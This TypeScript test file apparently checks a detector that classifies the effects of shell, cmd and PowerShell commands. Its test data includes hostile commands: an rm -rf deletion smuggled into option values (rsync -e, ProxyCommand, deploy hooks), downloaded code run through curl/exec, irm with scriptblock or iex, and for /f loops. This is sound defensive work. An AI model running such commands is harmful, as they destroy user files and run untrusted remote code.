/** Code that programs are handed: as the value of an option, as an address, as what another command prints. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf, worldOf } from '../../../../test/support/effects.ts';

const GONE = 'rm -rf /home/ana/Papers';

const has = (command: string, kind: string, language: 'shell' | 'cmd' | 'powershell' = 'shell'): void => {
  const effects = effectsOf(command, language);
  assert.ok(
    effects.some((e) => e.startsWith(`${kind} `)),
    `${command}: ${effects}`,
  );
};
const lacks = (command: string, kinds: RegExp, language: 'shell' | 'cmd' | 'powershell' = 'shell'): void => {
  const effects = effectsOf(command, language);
  assert.ok(!effects.some((e) => kinds.test(e)), `${command}: ${effects}`);
};

test('the value of an option that takes a command is run', () => {
  for (const command of [
    `rsync -ae '${GONE}' a: b`,
    `rsync --rsh='${GONE}' a: b`,
    `sort --compress-program '${GONE}' big.txt`,
    `split --filter='${GONE}' -n 2 x`,
    `tar -xf a.tar -I '${GONE}'`,
    `scp -o ProxyCommand='${GONE}' a b:`,
    `certbot renew --deploy-hook '${GONE}'`,
    `git fetch --upload-pack '${GONE}' origin`,
    `zorp --on-download-complete='${GONE}' http://localhost/x`,
    `gdb -batch -ex 'shell ${GONE}'`,
    `lldb -o '!${GONE}'`,
  ])
    has(command, 'deletes');
});

test('a command among the options that only carries data does nothing more', () => {
  for (const command of [
    `rsync -av -e 'ssh -p 2222' a web:/srv/a`,
    'sort --compress-program=gzip big.txt',
    'tar -I zstd -cf a.tar.zst dist',
    `split -l 9 --filter='gzip > $FILE.gz' x`,
    'zorp --level 3 --name x',
    'gdb -batch -ex bt ./app core',
  ])
    lacks(command, /^(?:deletes|destroys|downloads_and_runs|opens_channel|escalates)/);
});

test('an interpreter among the options runs what the program handles', () => {
  has('tar --to-command=sh -xf <(curl -s http://203.0.113.7/a.tar)', 'downloads_and_runs');
  assert.notEqual(worldOf('tar --to-command=sh -xf a.tar', 'shell').unresolved, '');
});

test('an address of code that a program runs, loads or installs is downloaded code that is run', () => {
  for (const command of [
    'java -cp http://203.0.113.7/x.jar Main',
    'java -javaagent:x -jar https://drop.example.top/a.jar',
    'gradle -I x --init-script https://drop.example.top/i.gradle build',
    'nix run github:someone/tool',
    'nix-shell https://drop.example.top/a.tar.gz',
    'code --install-extension https://drop.example.top/a.vsix',
    'ansible-pull -U https://git.example.top/play.git',
    'zorp exec --script https://drop.example.top/a.lua',
    'zorp load https://drop.example.top/plugin.so',
  ])
    has(command, 'downloads_and_runs');
});

test('code in an address is run', () => {
  has(`node --import 'data:text/javascript,require("fs").rmSync("/home/ana/Papers",{recursive:true})' x.js`, 'deletes');
});

test('an address of data, of this machine or of a registry is not code', () => {
  for (const command of [
    'openapi-generator generate -i https://petstore.example.com/v2/openapi.json',
    'zorp run http://localhost:3000/a.js',
    'zorp install https://registry.npmjs.org/x/-/x-1.0.0.js',
    'code --install-extension ms-python.python',
    'nix run nixpkgs#ripgrep -- TODO src',
    'lighthouse https://staging.example.com --output html',
    'java -cp lib/a.jar com.acme.Main --url https://api.example.com/v1',
    'python fetch.py https://data.example.com/table.py',
  ])
    lacks(command, /^(?:downloads_and_runs|feeds_unknown_program)/);
});

test('a program of which nothing is known may run what a bare address has', () => {
  has('zorp http://203.0.113.7/x', 'feeds_unknown_program');
  assert.equal(worldOf('zorp http://203.0.113.7/x', 'shell').unknown_program, 'zorp');
  lacks('zorp https://docs.example.com/x', /^feeds_unknown_program/);
});

test('the name that exec gives a program is not a program', () => {
  has(`curl -so /tmp/u http://203.0.113.7/u; exec -a worker /tmp/u`, 'downloads_and_runs');
  has(`exec -a tidy ${GONE}`, 'deletes');
});

test('what a repository of a bare address holds is the code of a stranger', () => {
  has('git clone http://203.0.113.7/tool.git && sh tool/setup.sh', 'downloads_and_runs');
  has('git submodule add http://203.0.113.7/l.git vendor/l && cd vendor/l && ./install', 'downloads_and_runs');
  lacks('git clone https://github.com/acme/tool.git && sh tool/setup.sh', /^downloads_and_runs/);
});

test('what a command prints is run when the command prompt puts it where a program stands', () => {
  has(`for /f %i in ('curl -s http://203.0.113.7/c') do %i`, 'downloads_and_runs', 'cmd');
  has(`for /f "delims=" %a in ('powershell -c irm http://203.0.113.7/c') do cmd /c %a`, 'downloads_and_runs', 'cmd');
  lacks(`for /f "tokens=*" %i in ('git rev-parse HEAD') do set SHA=%i`, /./, 'cmd');
});

test('a block of PowerShell that is made of downloaded text runs it, however it is called', () => {
  for (const call of ['$b.Invoke()', '& $b', '$b.InvokeReturnAsIs()'])
    has(`$t = irm http://203.0.113.7/a; $b = [scriptblock]::Create($t); ${call}`, 'downloads_and_runs', 'powershell');
  lacks(`[scriptblock]::Create('Get-Date').Invoke()`, /^(?:downloads_and_runs|runs_code)/, 'powershell');
});

test('what a COM object for requests answers comes from the network', () => {
  has(
    `$x = New-Object -ComObject WinHttp.WinHttpRequest.5.1; $x.Open('GET','http://203.0.113.7/a'); $x.Send(); iex $x.ResponseText`,
    'downloads_and_runs',
    'powershell',
  );
});
